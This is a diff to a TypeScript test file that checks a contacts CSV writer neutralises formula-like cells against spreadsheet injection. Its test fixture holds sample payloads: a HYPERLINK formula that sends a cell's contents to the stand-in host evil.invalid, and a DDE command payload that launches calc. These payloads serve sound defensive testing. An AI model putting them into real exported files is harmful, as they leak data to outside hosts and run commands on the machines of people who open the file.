@@ -7,6 +7,7 @@ import { writeFileAtomic } from "../../src/core/atomic-write.fs.js";
 import { isOutreachError } from "../../src/core/errors.js";
 import { DIRECTORY_COLUMNS, type Contact } from "../../src/contacts/contact-schema.js";
 import { forEachCsvRecord, formatCsvRow, formatCsvRows } from "../../src/contacts/csv-records.js";
+import { neutraliseCsvCell } from "../../src/core/csv-write.js";
 import { contactToRow, sortContacts } from "../../src/contacts/directory-rows.js";
 import { parseDirectoryText, readDirectory, writeDirectory } from "../../src/contacts/directory-store.fs.js";
 import { importDirectoryFile } from "../../src/directory/import-directory.fs.js";
@@ -17,20 +18,32 @@ function contact(fields: Partial<Contact> & Pick<Contact, "id" | "country">): Co
   return { ...empty, status: "active", ...fields } as Contact;
 }
 
+/**
+ * What the writer must produce, in csv-stringify's terms: formula-like cells get a leading `'` and are
+ * quoted (the OWASP advice), edge spaces are quoted, the rest quoted only where CSV needs it.
+ */
+const NEUTRALISED = /^'[ ']*[=+\-@\t\r]/;
+function reference(rows: readonly (readonly string[])[]): string {
+  return stringify(
+    rows.map((r) => r.map(neutraliseCsvCell)),
+    { quoted_match: [/^\s|\s$/, NEUTRALISED] },
+  );
+}
+
 const TRICKY = ["plain", "with, comma", 'with "quotes"', "line\nbreak", "crlf\r\nbreak", " edge space ", "", "ünïcödé 王示例", "semi;colon"];
 
 describe("CSV reader and writer", () => {
   it("write the same bytes as csv-stringify", () => {
     const rows = [TRICKY, [...TRICKY].reverse()];
-    expect(formatCsvRows(rows)).toBe(stringify(rows, { quoted_match: /^\s|\s$/ }));
+    expect(formatCsvRows(rows)).toBe(reference(rows));
   });
 
   it("quote exactly what csv-stringify quotes, row by row (the one-regex fast path and its fallback)", () => {
-    const cells = [...TRICKY, "a ,b", "a, b", "x,", ",x", "\tx", "x\u00a0", "\u3000x", "tail ", ""];
+    const cells = [...TRICKY, "a ,b", "a, b", "x,", ",x", "\tx", "x\u00a0", "\u3000x", "tail ", "", "=1+2", "+41 22", "-", "@x", "'=x", "'x", " =x", "a=b"];
     for (const a of cells) {
       for (const b of cells) {
         const row = ["id", a, "mid", b];
-        expect(formatCsvRow(row) + "\n").toBe(stringify([row], { quoted_match: /^\s|\s$/ }));
+        expect(formatCsvRow(row) + "\n").toBe(reference([row]));
       }
     }
   });
@@ -82,10 +95,36 @@ describe("directory store", () => {
     await writeDirectory(path, contacts);
     const text = await readFile(path, "utf8");
     const rows = [[...DIRECTORY_COLUMNS], ...sortContacts(contacts).map(contactToRow)];
-    expect(text).toBe(stringify(rows, { quoted_match: /^\s|\s$/ }));
+    expect(text).toBe(reference(rows));
     const back = await readDirectory(path);
     expect(back.problems).toEqual([]);
     expect(back.contacts).toEqual(sortContacts(contacts));
+  });
+
+  it("neutralises formula-like cells in directory.csv (a spreadsheet shows them as text) and reads them back exactly", async () => {
+    const dir = await makeTempDir();
+    const path = join(dir, "contacts", "directory.csv");
+    const hostile = contact({
+      id: "ch-1",
+      country: "CH",
+      organisation: '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
+      name: "@SUM(1+1)*cmd|' /C calc'!A0",
+      phone: "+41 22 555 01 01",
+      fax: "-",
+      address: "\t=1+2",
+      notes: "'=already quoted by hand",
+    });
+    await writeDirectory(path, [hostile]);
+    const text = await readFile(path, "utf8");
+    const cells = parse(text, { relax_column_count: true });
+    // What a spreadsheet sees: no cell starts with a formula character.
+    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[ ]*[=+\-@\t\r]/);
+    expect(text).toContain(`"'+41 22 555 01 01"`);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.invalid/?""&A1,""click"")"`);
+    expect(text).toContain(`"''=already quoted by hand"`);
+    const back = await readDirectory(path);
+    expect(back.problems).toEqual([]);
+    expect(back.contacts).toEqual([hostile]);
   });
 
   it("a missing file is an empty directory", async () => {
